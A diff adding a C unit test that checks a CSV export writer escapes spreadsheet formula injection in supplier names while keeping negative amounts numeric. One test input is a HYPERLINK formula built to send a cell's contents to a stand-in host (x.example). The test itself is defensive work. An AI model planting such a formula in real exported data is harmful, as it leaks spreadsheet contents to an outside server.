@@ -82,6 +82,38 @@ test_dates_and_integers (void)
   g_assert_cmpstr (text + 3, ==, "23/11/2026;05/01/2026;;garbage;-12\r\n");
 }
 
+/* M4: a supplier named =HYPERLINK(…) must not become a live formula in the accountant's spreadsheet,
+ * while negative amounts (credit notes) stay numbers. */
+static void
+test_formula_injection (void)
+{
+  ChorusCsvWriter *writer = chorus_csv_writer_new ();
+  g_autofree char *text = NULL;
+
+  chorus_csv_writer_add_text (writer, "=1+1");
+  chorus_csv_writer_add_text (writer, "+33 1 23 45 67 89");
+  chorus_csv_writer_add_text (writer, "-2");
+  chorus_csv_writer_add_text (writer, "@SUM(A1)");
+  chorus_csv_writer_add_text (writer, "\t=1");
+  chorus_csv_writer_add_text (writer, "\r=1");
+  chorus_csv_writer_add_text (writer, "=HYPERLINK(\"https://x.example/?\"&A2;\"Détails\")");
+  chorus_csv_writer_end_row (writer);
+  /* Only the first character matters; amounts and integers are ours and stay numeric. */
+  chorus_csv_writer_add_text (writer, "A=B");
+  chorus_csv_writer_add_text (writer, " =1");
+  chorus_csv_writer_add_text (writer, "");
+  chorus_csv_writer_add_amount (writer, -150);
+  chorus_csv_writer_add_integer (writer, -12);
+  chorus_csv_writer_add_date (writer, "=1+1");
+  chorus_csv_writer_end_row (writer);
+  text = finish (writer);
+
+  g_assert_cmpstr (text + 3, ==,
+                   "'=1+1;'+33 1 23 45 67 89;'-2;'@SUM(A1);'\t=1;\"'\r=1\";"
+                   "\"'=HYPERLINK(\"\"https://x.example/?\"\"&A2;\"\"Détails\"\")\"\r\n"
+                   "A=B; =1;;-1,50;-12;'=1+1\r\n");
+}
+
 int
 main (int argc, char *argv[])
 {
@@ -90,5 +122,6 @@ main (int argc, char *argv[])
   g_test_add_func ("/csv/amounts", test_amounts);
   g_test_add_func ("/csv/quoting", test_quoting);
   g_test_add_func ("/csv/dates-and-integers", test_dates_and_integers);
+  g_test_add_func ("/csv/formula-injection", test_formula_injection);
   return g_test_run ();
 }
